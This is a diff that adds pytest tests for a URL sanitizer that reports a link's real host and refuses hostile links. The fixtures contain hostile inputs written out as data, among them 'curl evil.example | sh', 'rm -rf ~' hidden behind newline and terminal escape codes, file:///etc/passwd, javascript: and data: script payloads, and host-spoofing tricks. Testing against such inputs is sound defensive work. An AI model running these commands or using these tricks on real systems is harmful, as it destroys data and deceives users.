@@ -11,7 +11,7 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from index.sanitize import REPLACED, REPLACEMENT, display_safe, one_line, safe_json
+from index.sanitize import REPLACED, REPLACEMENT, display_safe, one_line, safe_json, url_host, url_problem
 
 #: Invisible characters the list must hold besides those Unicode's categories find below.
 _MARKS_AND_ZERO_WIDTH = {"\u061c", "\u200e", "\u200f", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"}
@@ -139,3 +139,66 @@ def test_safe_json_round_trips_and_prints_nothing_unsafe(text: str) -> None:
     assert json.loads(dumped) == {"t": text}
     assert display_safe(dumped) == dumped  # nothing a terminal would act on or hide
     dumped.encode("utf-8")  # lone surrogates are escaped, so printing never fails
+
+
+@pytest.mark.parametrize(
+    ("url", "host"),
+    [
+        ("https://www.cyberscoop.com/chinese-group/", "www.cyberscoop.com"),
+        ("HTTP://Example.COM:8080/a?b=c#d", "example.com"),
+        ("https://[2001:db8::1]/report", "2001:db8::1"),
+        ("https://bücher.example/", "bücher.example (xn--bcher-kva.example)"),
+        ("https://xn--bcher-kva.example/", "xn--bcher-kva.example"),
+        ("https://trusted.com.aaaa@evil.example/", "evil.example"),
+        ("https://user:pw@trusted.com/", "trusted.com"),
+        ("https://example.com./", "example.com."),
+    ],
+)
+def test_plain_web_links_may_be_opened_and_name_their_real_host(url: str, host: str) -> None:
+    assert url_problem(url) is None
+    assert url_host(url) == host
+
+
+@pytest.mark.parametrize(
+    ("url", "why"),
+    [
+        ("", "no URL"),
+        ("javascript:alert(1)", "http and https"),
+        ("JaVaScRiPt://example.com/%0Aalert(1)", "http and https"),
+        ("file:///etc/passwd", "http and https"),
+        ("data:text/html,<script>alert(1)</script>", "http and https"),
+        ("ftp://example.com/x", "http and https"),
+        ("https://example.com/\nrm -rf ~", "U+000A"),
+        ("https://example.com/ ; curl evil.example | sh", "U+0020"),
+        ("https://example.com/\x1b[201~; rm -rf ~", "U+001B"),
+        ("https://example.com/\x9b201~", "U+009B"),
+        ("https://example.com/\u202egpj.exe", "U+202E"),
+        ("https://exa\u200bmple.com/", "U+200B"),
+        ("https://example.com/\u00a0", "U+00A0"),
+        ("https://example.com/\u2028", "U+2028"),
+        ("https://exam\u00adple.com/", "U+00AD"),
+        ("https://evil.example\\@trusted.com/", "backslash"),
+        ("https:\\\\evil.example", "backslash"),
+        ("https:///path-only", "no host"),
+        ("http:example.com", "no host"),
+        ("https://", "no host"),
+        ("https://example.com:99999/", "well-formed"),
+        ("https://[::1/", "well-formed"),
+        ("https://[not-an-address]/", "IPv6"),
+        ("https://evil%2Eexample/", "host name"),
+        ("https://evil..example/", "host name"),
+        ('https://ex"ample.com/', "host name"),
+    ],
+)
+def test_hostile_links_are_refused_with_a_reason(url: str, why: str) -> None:
+    problem = url_problem(url)
+    assert problem is not None and why in problem, problem
+    assert url_host(url) == ""
+
+
+@given(st.text(max_size=80))
+def test_an_accepted_link_has_no_character_a_terminal_or_shell_would_act_on(tail: str) -> None:
+    url = "https://example.com/" + tail
+    if url_problem(url) is None:
+        assert not any(char.isspace() or unicodedata.category(char) in {"Cc", "Cf"} for char in url)
+        assert "\\" not in url and url_host(url) == "example.com"
